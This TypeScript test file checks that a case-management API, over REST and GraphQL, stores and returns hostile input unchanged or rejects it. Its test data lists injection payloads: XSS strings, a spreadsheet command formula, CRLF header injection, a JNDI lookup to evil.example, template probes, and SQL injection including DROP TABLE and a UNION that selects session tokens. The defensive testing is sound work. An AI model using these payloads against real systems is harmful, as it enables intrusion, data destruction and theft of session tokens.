import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { assertNothingStored } from "./rest/v4/stored.ts";
import { graphql, party1, postCase, rows, send } from "./support/requests.ts";
import { startServer, type TestServer } from "./support/test-server.ts";

const document =
	"mutation ($input: CreateCaseInput!) { createCase(input: $input) { case { number comments { description } } userErrors { code field } } }";
type Input = { readonly [key: string]: unknown };

/** Creates a case, reads it, and answers the comment as the protocol gives it back. */
const protocols = {
	async REST(server: TestServer, input: Input) {
		const made = await postCase(server, input);
		const path = `/api/v4/cases/${made.body.case?.id}`;
		const read = await send(server, "GET", path, { headers: party1 });
		return { made, text: read.body.comments?.[0]?.description };
	},
	async GraphQL(server: TestServer, input: Input) {
		const made = await graphql(server, document, { input });
		const number = made.body.data?.createCase?.case?.number ?? 0;
		const read = await graphql(
			server,
			"query ($number: SafeInt!) { caseByNumber(number: $number) { comments { description } } }",
			{ number },
		);
		return {
			made,
			text: read.body.data.caseByNumber?.comments[0]?.description,
		};
	},
} as const;

const base = { categoryCode: "Reclamo", typeCode: "Telefonico" };
const texts: [title: string, text: string][] = [
	["F2: a control that turns the line around", "abc\u202edcba\u2066\u2069"],
	["F2: characters of no width", "a\u200b\u200d\ufeffb"],
	["F2: a tower of accents", `Z${"\u0301".repeat(500)}`],
	["F3: a composed and a decomposed letter", "\u00e9e\u0301"],
	["F4: families of emoji at the limit", "👩‍👩‍👧‍👦🏴".repeat(8_192)],
	["F5: a script", '<script>alert("1")</script>'],
	["F5: SVG and a link", "<svg onload=alert(1)>[x](javascript:alert(1))"],
	["F6: a formula", "=cmd|' /C calc'!A0"],
	["F7: header lines", "a\r\nSet-Cookie: a=b\r\n\r\n<html>"],
	[
		"F8: a lookup and templates",
		`\${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> #{7*7}`,
	],
	["F9: SQL", "'); DROP TABLE cases; --"],
	["F9: SQL that is true", "' OR '1'='1"],
];

for (const [protocol, create] of Object.entries(protocols))
	describe(`a text by ${protocol}`, () => {
		for (const [title, text] of texts)
			test(`${title}: comes back as it was sent`, async () => {
				await using server = await startServer();
				const comments = [{ description: text }];
				const { made, text: read } = await create(server, {
					...base,
					comments,
				});
				assert.equal(read, text);
				assert.equal(rows(server, "case_comments")[0]?.description, text);
				assert.match(made.headers.get("content-type") ?? "", /json/);
				assert.equal(made.headers.get("x-content-type-options"), "nosniff");
				assert.equal(made.headers.get("set-cookie"), null);
			});

		test("F4: is counted in code points and never cut", async () => {
			await using server = await startServer({ MAX_TEXT_LENGTH: "10" });
			const ten = "😀".repeat(10);
			const fits = await create(server, {
				...base,
				comments: [{ description: ten }],
			});
			assert.equal(fits.text, ten);
			const { made } = await create(server, {
				...base,
				comments: [{ description: `${ten}😀` }],
			});
			assert.match(made.text, /TooLong|TOO_LONG/);
			assert.equal(rows(server, "cases").length, 1);
		});

		for (const code of [
			"Recla\u006d\u043e",
			"Reclamo\u0301",
			"Ｒeclamo",
			"reclamo",
			"Reclamo\u200b",
			"ReclaMo",
		])
			test(`F3: the code ${JSON.stringify(code)} is none, however alike it looks`, async () => {
				await using server = await startServer();
				const { made } = await create(server, { ...base, categoryCode: code });
				assert.match(made.text, /InvalidCode|INVALID_CODE/);
				assertNothingStored(server);
			});

		for (const meta of [
			"'",
			"' OR 1=1--",
			'"; DROP TABLE cases; --',
			"1); DELETE FROM cases; --",
			"%' UNION SELECT token FROM sessions --",
		])
			test(`F9: ${meta} in every field changes nothing`, async () => {
				await using server = await startServer();
				await create(server, base);
				for (const field of [
					"categoryCode",
					"typeCode",
					"status",
					"resolution",
				]) {
					const { made } = await create(server, { ...base, [field]: meta });
					assert.match(made.text, /Invalid|INVALID/);
				}
				const { made } = await create(server, {
					...base,
					caseData: { [meta]: meta, monto: meta, fecha: meta },
				});
				assert.match(made.text, /invalidCaseField|INVALID/);
				const page = await send(
					server,
					"GET",
					`/api/v4/cases?idempotencyKey=${encodeURIComponent(meta)}`,
					{ headers: party1 },
				);
				assert.ok(page.status < 500);
				assert.equal(rows(server, "cases").length, 1);
			});
	});
